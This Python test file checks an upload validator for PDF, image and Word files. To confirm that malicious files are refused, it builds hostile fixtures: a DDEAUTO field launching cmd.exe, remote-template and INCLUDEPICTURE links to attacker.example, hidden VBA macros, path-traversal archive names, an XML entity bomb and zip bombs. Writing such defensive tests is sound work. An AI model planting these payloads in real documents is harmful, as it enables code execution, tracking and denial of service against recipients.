"""Upload checks: type from content agreeing with the extension, and files that open as what they claim."""

from __future__ import annotations

import hashlib

import pytest
from PIL import Image

from disclosure.uploads import UploadRefused, check_upload, clean_filename
from tests import samples

LIMIT = 1024 * 1024


def refused(filename: str, data: bytes, limit: int = LIMIT) -> str:
    with pytest.raises(UploadRefused) as caught:
        check_upload(filename, data, max_bytes=limit)
    return caught.value.message


@pytest.mark.parametrize(
    ("filename", "data", "content_type"),
    [
        ("record.pdf", samples.pdf(), "application/pdf"),
        ("photo.PNG", samples.image("PNG"), "image/png"),
        ("photo.jpg", samples.image("JPEG"), "image/jpeg"),
        ("photo.jpeg", samples.image("JPEG"), "image/jpeg"),
        (
            "return.docx",
            samples.docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ],
)
def test_real_files_are_accepted_with_their_type_size_and_hash(
    filename: str, data: bytes, content_type: str
) -> None:
    checked = check_upload(filename, data, max_bytes=LIMIT)
    assert checked.content_type == content_type
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.filename == filename


def test_an_empty_file_is_refused() -> None:
    assert refused("empty.pdf", b"") == "The selected file is empty"


def test_a_file_over_the_limit_is_refused() -> None:
    assert refused("big.pdf", b"%PDF" + b"0" * LIMIT) == "The selected file must be smaller than 1 MB"


@pytest.mark.parametrize(
    "filename", ["script.html", "run.exe", "notes.txt", "archive.zip", "noextension", "x.svg"]
)
def test_other_kinds_of_file_are_refused(filename: str) -> None:
    assert refused(filename, samples.pdf()) == "The selected file must be a PDF, PNG, JPEG or Word (.docx)"


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("page.pdf", b"<html><script>alert(1)</script></html>"),
        ("photo.png", samples.pdf()),
        ("photo.jpg", samples.image("PNG")),
        ("return.docx", samples.pdf()),
        ("evil.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    ],
)
def test_content_that_does_not_match_the_extension_is_refused(filename: str, data: bytes) -> None:
    assert "its content does not match its name" in refused(filename, data)


def test_a_damaged_pdf_is_refused() -> None:
    assert (
        refused("broken.pdf", b"%PDF-1.7\n" + b"garbage " * 50)
        == "The selected PDF is damaged and cannot be opened"
    )


def test_a_password_protected_pdf_is_refused() -> None:
    assert "password protected" in refused("locked.pdf", samples.encrypted_pdf())


def test_a_truncated_image_is_refused() -> None:
    data = samples.image("PNG", (200, 200))
    assert refused("cut.png", data[: len(data) // 2]) == "The selected image is damaged and cannot be opened"


def test_a_decompression_bomb_image_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    assert "too large" in refused("bomb.png", samples.image("PNG", (100, 100)))


def test_an_image_over_the_pixel_limit_is_refused() -> None:
    assert "under 50 megapixels" in refused("huge.png", samples.png_header_only(8000, 6251))
    assert check_upload("large.png", samples.png_header_only(8000, 6250), max_bytes=LIMIT)


def test_a_word_document_with_macros_is_refused() -> None:
    assert "contains macros" in refused("macro.docx", samples.docx_with("word/vbaProject.bin"))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/cron.d/job"])
def test_a_word_document_reaching_outside_its_archive_is_refused(name: str) -> None:
    assert "damaged" in refused("slip.docx", samples.docx_with(name))


def test_a_zip_bomb_word_document_is_refused() -> None:
    assert "damaged" in refused("bomb.docx", samples.zip_bomb_docx(), limit=10 * LIMIT)


def test_a_plain_zip_named_docx_is_refused() -> None:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert refused("fake.docx", out.getvalue()) == "The selected file is not a Word document"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("C:\\Users\\pc\\Documents\\record.pdf", "record.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("re\u202ecord\x00\n.pdf", "record.pdf"),
        ('quote"and<angle>.pdf', "quote_and_angle_.pdf"),
        ("Siân O'Brien.docx", "Siân O'Brien.docx"),
    ],
)
def test_file_names_lose_folders_and_unsafe_characters(raw: str, clean: str) -> None:
    assert clean_filename(raw) == clean


def test_a_very_long_name_keeps_its_extension() -> None:
    cleaned = clean_filename("a" * 500 + ".pdf")
    assert len(cleaned) == 200 and cleaned.endswith(".pdf")


@pytest.mark.parametrize("raw", ["", "...", "/", "\x00\x01"])
def test_a_name_with_nothing_left_is_refused(raw: str) -> None:
    with pytest.raises(UploadRefused, match="Select a file to upload"):
        clean_filename(raw)


# ---------------------------------------------------------------- nothing active [issue 14 §4], as attacked

ACTIVE_RELATIONSHIPS = [
    pytest.param(
        "settings.xml", "attachedTemplate", "http://attacker.example/t.dotm", "External", id="template"
    ),
    pytest.param("document.xml", "image", "http://attacker.example/track.png", "External", id="linked-image"),
    pytest.param("document.xml", "hyperlink", "https://attacker.example/", "External", id="web-link"),
    pytest.param("document.xml", "oleObject", "embeddings/oleObject1.bin", "", id="ole-object"),
]


@pytest.mark.parametrize(("part", "kind", "target", "mode"), ACTIVE_RELATIONSHIPS)
def test_a_word_document_reaching_outside_itself_or_embedding_objects_is_refused(
    part: str, kind: str, target: str, mode: str
) -> None:
    message = refused("return.docx", samples.with_relationship(part, kind, target, mode))
    assert ("links to something outside it" if mode else "contains macros") in message


def _field(*instruction_runs: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instruction_runs)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (_field(' INCLUDEPICTURE "http://attacker.example/x.png" \\d '), "INCLUDEPICTURE"),
        (_field(" INCLUDE", 'PICTURE "http://attacker.example/x.png"'), "INCLUDEPICTURE"),
        (_field('includetext "\\\\\\\\attacker\\\\share\\\\a.docx"'), "INCLUDETEXT"),
        (
            "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/></w:p>",
            "DDEAUTO",
        ),
        ("<w:p>" + _field(" IF 1 = 1 ")[5:-6] + _field(' DDE excel "sheet"')[5:-6] + "</w:p>", "DDE"),
    ],
)
def test_a_word_document_with_a_field_that_fetches_or_runs_something_is_refused(
    body: str, field: str
) -> None:
    document = samples.docx_changed({"word/document.xml": samples.document_xml(body)})
    assert f"has a {field} field" in refused("return.docx", document)


def test_fields_that_only_show_something_are_kept() -> None:
    body = _field(" PAGE ") + _field(' HYPERLINK \\l "section" ') + _field(" REF HIDDEN_NAME ")
    document = samples.docx_changed({"word/document.xml": samples.document_xml(body)})
    assert check_upload("return.docx", document, max_bytes=LIMIT).extension == "docx"


VBA_CONTENT_TYPE = "application/vnd.ms-office.vbaProject"
MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    "members",
    [
        pytest.param({"word/media/image9.png": samples.OLE_FILE}, id="renamed-project-by-its-bytes"),
        pytest.param(
            {
                "[Content_Types].xml": samples.content_types(
                    f'<Override PartName="/word/media/notes.xml" ContentType="{VBA_CONTENT_TYPE}"/>'
                )
            },
            id="by-content-type",
        ),
        pytest.param(
            {
                "[Content_Types].xml": samples.content_types(
                    f'<Default Extension="png" ContentType="{MACRO_DOCUMENT}"/>'
                )
            },
            id="macro-enabled-document",
        ),
    ],
)
def test_a_macro_part_is_found_whatever_it_is_called(members: dict[str, str | bytes]) -> None:
    assert "contains macros" in refused("return.docx", samples.docx_changed(members))


def test_a_vba_project_relationship_is_refused_whatever_its_target_is_called() -> None:
    document = samples.with_relationship("document.xml", "vbaProject", "media/logo.png")
    assert "contains macros" in refused("return.docx", document)


def test_a_document_type_declaration_is_refused_before_any_entity_expands() -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]><w:document '
        + samples.W
        + ">&a;</w:document>"
    )
    document = samples.docx_changed({"word/document.xml": laughs})
    assert "damaged" in refused("return.docx", document)


def test_a_zip_member_is_measured_by_what_it_holds_not_what_its_header_claims() -> None:
    lying = samples.lying_zip_member(claimed=100, real=150_000_000)
    assert "damaged" in refused("return.docx", lying, limit=10 * LIMIT)


def test_the_real_bytes_of_every_member_count_against_the_total(monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    monkeypatch.setattr("disclosure.uploads.MAX_ZIP_EXPANDED", 3_000_000)  # the template is 0.8 MB
    document = samples.docx_changed(
        {"word/media/a.bin": os.urandom(1_200_000), "word/media/b.bin": os.urandom(1_200_000)}
    )
    assert "damaged" in refused("return.docx", document, limit=10 * LIMIT)
    small = samples.docx_changed({"word/media/a.bin": os.urandom(1_200_000)})
    assert check_upload("return.docx", small, max_bytes=10 * LIMIT).extension == "docx"


def test_an_image_is_sized_from_its_header_and_never_decoded_unless_it_will_be_drawn(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    vast = samples.png_header_only(7000, 7000)  # 49 megapixels in a few hundred bytes
    from PIL import ImageFile

    def no_decoding(self: object) -> None:
        raise AssertionError("an evidence image was decoded")

    with monkeypatch.context() as patched:
        patched.setattr(ImageFile.ImageFile, "load", no_decoding)
        assert check_upload("photo.png", vast, max_bytes=LIMIT).content_type == "image/png"
    message = refused_with("logo.png", vast, max_pixels=4_000_000, decode=True)
    assert message == "The selected image is too large: it must be under 4 megapixels"
    assert check_upload("logo.png", samples.image("PNG"), max_bytes=LIMIT, max_pixels=4_000_000, decode=True)


def refused_with(filename: str, data: bytes, **limits: object) -> str:
    with pytest.raises(UploadRefused) as caught:
        check_upload(filename, data, max_bytes=LIMIT, **limits)  # type: ignore[arg-type]
    return caught.value.message
